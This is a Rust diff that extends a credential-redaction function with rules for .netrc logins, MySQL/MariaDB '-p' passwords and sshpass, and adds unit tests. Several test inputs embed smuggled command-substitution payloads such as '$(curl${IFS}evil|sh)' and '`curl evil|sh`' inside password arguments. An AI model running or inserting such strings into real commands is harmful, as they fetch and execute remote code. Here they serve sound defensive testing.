@@ -281,7 +281,7 @@ pub(crate) fn key_form(key: &str) -> String {
 /// & < >`, backtick, braces), starts right after `=` (after `:` or a scheme, spaces or tabs,
 /// never a line break: `TOKEN=\n/tmp/x` runs `/tmp/x`) and not with a path (`/`, `.`, `~`,
 /// `!`).
-const VALUE_RULES: [(&str, &str); 9] = [
+const VALUE_RULES: [(&str, &str); 12] = [
     // The body of a private key, between its markers (PEM, OpenSSH, PGP armour, with the
     // header lines of an encrypted PEM or an armour); replaced only when it decodes as such
     // a key (see [`pem_body`]), so text between two marker lines that is not a key
@@ -330,6 +330,22 @@ const VALUE_RULES: [(&str, &str); 9] = [
     // `-u user:password` / `--user user:password` (curl, wget).
     (
         r#"((?:-u|--user)[ \t]+['"]?[^\s:'"]+:)[^\s&"',;{}$()|<>`@]+"#,
+        "${1}[REDACTED]",
+    ),
+    // A `.netrc` entry, on one line or several: `login USER password SECRET`.
+    (
+        r#"((?-u:\b)login[ \t]+[^\s'"]+\s+password[ \t]+)[^\s&"',;{}$()|<>`/.~!][^\s&"',;{}$()|<>`]{3,}"#,
+        "${1}[REDACTED]",
+    ),
+    // MySQL's and MariaDB's clients take the password glued to `-p` (`-pSECRET`, `-p'SECRET'`;
+    // a lone `-p` asks for it, and `-P` is the port).
+    (
+        r#"((?-u:\b)(?:mysql(?:dump|admin|import|check|show|slap|pump|sh)?|mariadb(?:-dump|-admin|-import|-check|-show|-slap)?)[ \t][^\n|;&]*?[ \t]-p['"]?)[^\s&"',;{}$()|<>`/.~!][^\s&"',;{}$()|<>`]{2,}"#,
+        "${1}[REDACTED]",
+    ),
+    // `sshpass -p SECRET`.
+    (
+        r#"((?-u:\b)sshpass[ \t][^\n|;&]*?-p[ \t]*['"]?)[^\s&"',;{}$()|<>`/.~!][^\s&"',;{}$()|<>`]{2,}"#,
         "${1}[REDACTED]",
     ),
     // Tokens known by their prefix (GitHub, OpenAI, Stripe, Slack, AWS access key ids,
@@ -3649,6 +3665,31 @@ mod tests {
                 "0123456789abcdefghij",
                 "[REDACTED]",
             ),
+            (
+                json!({"netrc": "machine api.example login bob password hunter22"}),
+                "hunter22",
+                "login bob password [REDACTED]",
+            ),
+            (
+                json!({"netrc": "machine api.example\n  login bob\n  password hunter22\n"}),
+                "hunter22",
+                "password [REDACTED]",
+            ),
+            (
+                json!({"cmd": "mysql -h db -u root -phunter22 app < dump.sql"}),
+                "hunter22",
+                "-u root -p[REDACTED] app",
+            ),
+            (
+                json!({"cmd": "mysqldump -uroot -p'hunter22' app"}),
+                "hunter22",
+                "-p'[REDACTED]' app",
+            ),
+            (
+                json!({"cmd": "sshpass -p hunter22 ssh bob@host"}),
+                "hunter22",
+                "sshpass -p [REDACTED] ssh",
+            ),
         ];
         for (args, secret, shown) in cases {
             let text = redact(args.clone());
@@ -3662,6 +3703,8 @@ mod tests {
             json!({"text": "Bearer tokens are described in RFC 6750"}),
             json!({"text": "a basic implementation of quicksort"}),
             json!({"cfg": "max_tokens: 4096", "code": "const token = await getToken()"}),
+            json!({"cmd": "mysql -p app", "help": "mysql -P 3307 -h db app"}),
+            json!({"text": "the login page asks for a password twice"}),
         ] {
             assert_eq!(redact(plain.clone()), plain.to_string());
         }
@@ -3693,6 +3736,9 @@ mod tests {
             ("X=Bearer /tmp/xx/payload.sh", "/tmp/xx/payload.sh"),
             ("TOKEN=\n/tmp/evil.sh", "/tmp/evil.sh"),
             ("x=--pass /tmp/evil.sh", "/tmp/evil.sh"),
+            ("mysql -u root -p/tmp/evil.sh", "/tmp/evil.sh"),
+            ("mysql -u x -p$(curl${IFS}evil|sh) db", "$(curl${IFS}evil|sh)"),
+            ("sshpass -p `curl evil|sh` ssh h", "`curl evil|sh`"),
             (
                 "git -c credential.helper=!/tmp/x/evil fetch",
                 "!/tmp/x/evil",
